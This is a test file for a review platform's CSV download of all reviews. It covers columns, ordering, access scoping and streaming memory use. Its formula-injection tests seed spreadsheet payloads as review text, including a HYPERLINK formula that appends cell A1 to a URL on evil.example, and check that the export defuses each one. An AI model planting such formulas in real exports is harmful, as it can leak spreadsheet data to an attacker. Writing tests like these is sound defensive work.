// The download of all reviews: complete, readable by any spreadsheet, and never more of it in memory than a reader takes.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { parse } from "csv-parse/sync";
import { toWire } from "#contract/id.ts";
import { chooseInSession } from "#domain/account/sign-in/session.ts";
import { EXPORT_COLUMNS, exportReviews } from "#domain/review/dashboard/export.ts";
import { changeStatus } from "#domain/review/lifecycle/lifecycle.ts";
import { PAGE } from "#domain/review/list/piece.ts";
import type { Context } from "#platform/database/context.ts";
import { streamOf } from "#surface/http/stream.ts";
import { browse, signIn } from "../../../support/dashboard.ts";
import { AUTHOR_SECRETS, seedBusiness, seedOrganisation, seedReview, seedReviews } from "../../../support/seed.ts";
import { createTestService, type TestService } from "../../../support/service.ts";
import { until } from "../../../support/until.ts";

let service: TestService;
beforeAll(async () => {
  service = await createTestService();
});
afterAll(() => service.close());

async function seedShop(role: "owner" | "member" = "owner", slug?: string) {
  const organisation = await seedOrganisation(service.context, "free");
  const shop = await seedBusiness(service.context, { organisationId: organisation.id, ...(slug && { slug }) });
  return { organisation, shop, person: await signIn(service, { organisationId: organisation.id, role }) };
}

const rowsOf = (csv: string) =>
  parse(csv, { columns: true, bom: true }) as Record<(typeof EXPORT_COLUMNS)[number], string>[];

describe("GET /dashboard/reviews.csv", () => {
  test("has every published review of the chosen business, an editor's too, newest first", async () => {
    const { context } = service;
    const { shop, person } = await seedShop("member", "shop.example");
    const first = {
      title: "First",
      createdAt: "2026-01-01T10:00:00.120Z",
      rating: 2,
      language: "de",
      reply: "Our reply to it.",
    };
    const id = await seedReview(context, shop.id, first);
    await seedReview(context, shop.id, { title: "Editor", source: "editor", createdAt: "2026-01-02T00:00:00Z" });
    await seedReview(context, shop.id, {
      title: "Verified",
      source: "invitation",
      verified: true,
      createdAt: "2026-01-03T00:00:00Z",
    });
    for (const status of ["held", "hidden", "removed"] as const) {
      const other = await seedReview(context, shop.id, { title: status });
      await changeStatus(context, other, { to: status, reason: "links", askedBy: "rule" });
    }
    await seedReview(context, shop.id, { title: "pending", status: "pending" });
    const answer = await person.get("/dashboard/reviews.csv");
    expect(answer.status).toBe(200);
    expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(answer.headers.get("cache-control")).toBe("no-store");
    expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
    expect(answer.headers.get("content-disposition")).toBe(
      `attachment; filename="reviews-shop.example-2026-11-20.csv"; filename*=UTF-8''reviews-shop.example-2026-11-20.csv`,
    );
    const bytes = await answer.bytes();
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const csv = new TextDecoder().decode(bytes);
    expect(csv.split("\r\n")[0]).toBe(EXPORT_COLUMNS.join(","));
    expect(csv.replaceAll("\r\n", "")).not.toContain("\n");
    const rows = rowsOf(csv);
    expect(rows.map(({ title, source, verified }) => [title, source, verified])).toEqual([
      ["Verified", "invitation", "true"],
      ["Editor", "editor", "false"],
      ["First", "organic", "false"],
    ]);
    const wire = toWire("rev", id);
    expect(rows[2]).toEqual({
      id: wire,
      createdAt: "2026-01-01T10:00:00.120Z",
      experienceDate: "2026-01-01",
      rating: "2",
      title: "First",
      body: "What happened, in a few words.",
      author: "Ana R.",
      verified: "false",
      source: "organic",
      language: "de",
      helpfulCount: "0",
      replyBody: "Our reply to it.",
      replyCreatedAt: "2026-01-01T11:00:00.120Z",
      editedAt: "",
      url: `https://reviews.example/review/shop.example/${wire}`,
      incentivized: "",
      reward: "",
      photos: "",
    });
    for (const secret of AUTHOR_SECRETS) expect(csv).not.toContain(secret);
  });

  test("takes whatever people write, and no cell of theirs is a formula", async () => {
    const { shop, person } = await seedShop();
    const texts = [
      '=HYPERLINK("http://evil.example")',
      "＠SUM(A1)",
      '"quoted", with\ncommas',
      "مرحبا بالعالم",
      "😀".repeat(2_000),
      "x".repeat(5_000),
    ];
    for (const [index, body] of texts.entries())
      await seedReview(service.context, shop.id, {
        body,
        author: body.slice(0, 20),
        createdAt: `2026-01-0${9 - index}T00:00:00Z`,
        reply: "+1 from all of us",
      });
    const rows = rowsOf(await (await person.get("/dashboard/reviews.csv")).text());
    expect(rows.map(({ body }) => body)).toEqual([`'${texts[0]}`, `'${texts[1]}`, ...texts.slice(2)]);
    expect(rows[0]?.author).toBe(`'${texts[0]?.slice(0, 20)}`);
    expect(rows.every(({ replyBody }) => replyBody === "'+1 from all of us")).toBe(true);
  });

  test("has no formula in a tool that splits at semicolons or tabs either", async () => {
    const { shop, person } = await seedShop();
    const formula = `=HYPERLINK("http://evil.example/?"&A1;"Click")`;
    for (const [index, split] of [";", "\t", "\n", ' ;"'].entries())
      await seedReview(service.context, shop.id, {
        title: `Fine${split === "\n" ? ";" : split}${formula}`,
        body: `Fine${split}${formula}`,
        author: `Ana${split === "\n" ? ";" : split}@SUM(A1)`,
        createdAt: `2026-01-0${index + 1}T00:00:00Z`,
        reply: `Thank you;\t${formula}`,
      });
    const csv = await (await person.get("/dashboard/reviews.csv")).text();
    expect(rowsOf(csv)).toHaveLength(4);
    for (const split of [/[;\r\n]+/, /[\t\r\n]+/])
      for (const cell of csv.split(split)) expect(cell).not.toMatch(/^[\s"]*[=+\-@]/);
  });

  test("of a business without reviews has its columns alone", async () => {
    const { person } = await seedShop();
    expect(await (await person.get("/dashboard/reviews.csv")).text()).toBe(`${EXPORT_COLUMNS.join(",")}\r\n`);
  });

  test("is of the business that the dashboard shows, and only where it is the organisation's", async () => {
    const { context } = service;
    const { organisation, shop, person } = await seedShop();
    const second = await seedBusiness(context, { organisationId: organisation.id });
    const { shop: foreign } = await seedShop();
    for (const [each, title] of [
      [shop, "one"],
      [second, "two"],
      [foreign, "foreign"],
    ] as const)
      await seedReview(context, each.id, { title });
    const [session] = await service.sql<{ id: string }[]>`select id from session where user_id = ${person.id}`;
    const titles = async (businessId: typeof shop.id) => {
      await chooseInSession(context, session?.id ?? "", { organisationId: organisation.id, businessId });
      return rowsOf(await (await person.get("/dashboard/reviews.csv")).text()).map(({ title }) => title);
    };
    expect(await titles(shop.id)).toEqual(["one"]);
    expect(await titles(second.id)).toEqual(["two"]);
    expect(await titles(foreign.id)).not.toContain("foreign");
  });

  test("is refused to a stranger", async () => {
    const answer = await browse(service).get("/dashboard/reviews.csv");
    expect(answer.status).toBe(303);
    expect(answer.headers.get("location")).toStartWith("/login");
  });
});

describe("memory", () => {
  const MANY = PAGE * 4 + 7;
  let shop: Awaited<ReturnType<typeof seedShop>>["shop"];
  let counted: Context;
  let asked = 0;
  beforeAll(async () => {
    ({ shop } = await seedShop());
    // Three at each moment, so that batches end in the middle of one.
    const at = (index: number) => new Date(Date.UTC(2026, 0, 1) + Math.floor(index / 3) * 1_000).toISOString();
    await seedReviews(
      service.context,
      shop.id,
      Array.from({ length: MANY }, (_, index) => ({ createdAt: at(index) })),
    );
    const { db } = service.context;
    const session = {
      ...db._.session,
      prepareQuery: (...args: Parameters<typeof db._.session.prepareQuery>) => {
        if (args[2] === "review_export") asked++;
        return db._.session.prepareQuery(...args);
      },
    };
    counted = { ...service.context, db: { ...db, _: { ...db._, session } } as unknown as Context["db"] };
  });

  test("a batch is asked for when the one before it is taken, and all come, each once", async () => {
    const pieces = exportReviews(counted, shop);
    let csv = "";
    for (let taken = 0; ; taken++) {
      const { value, done } = await pieces.next();
      if (done) break;
      csv += value;
      expect(asked).toBeLessThanOrEqual(taken + 1);
    }
    const ids = rowsOf(csv).map(({ id }) => id);
    expect(ids).toHaveLength(MANY);
    expect(new Set(ids).size).toBe(MANY);
  });

  test("when the reader goes away nothing more is asked for", async () => {
    asked = 0;
    const pieces = exportReviews(counted, shop);
    await pieces.next();
    await pieces.next();
    await pieces.return();
    expect(asked).toBe(2);
    expect((await pieces.next()).done).toBe(true);
    expect(asked).toBe(2);
  });

  test("a client that stops reading stops the reading, and one that leaves ends it", async () => {
    asked = 0;
    const reader = streamOf(exportReviews(counted, shop)).getReader();
    await reader.read();
    await Bun.sleep(0);
    await reader.read();
    const held = asked;
    expect(held).toBeLessThanOrEqual(3);
    await reader.cancel();
    expect(asked).toBeLessThanOrEqual(held + 1);
  });

  test("over HTTP, too: who leaves in the middle ends it", async () => {
    let [made, ended] = [0, false];
    async function* endless() {
      try {
        for (;;) {
          made++;
          yield "x".repeat(100_000);
        }
      } finally {
        ended = true;
      }
    }
    const server = Bun.serve({ port: 0, hostname: "127.0.0.1", fetch: () => new Response(streamOf(endless())) });
    try {
      const leave = new AbortController();
      const answer = await fetch(server.url, { signal: leave.signal });
      await answer.body?.getReader().read();
      leave.abort();
      await until("the reading ends", async () => ended);
      // The part that a socket buffers, not the whole.
      expect(made).toBeLessThan(1_000);
    } finally {
      await server.stop(true);
    }
  });
});
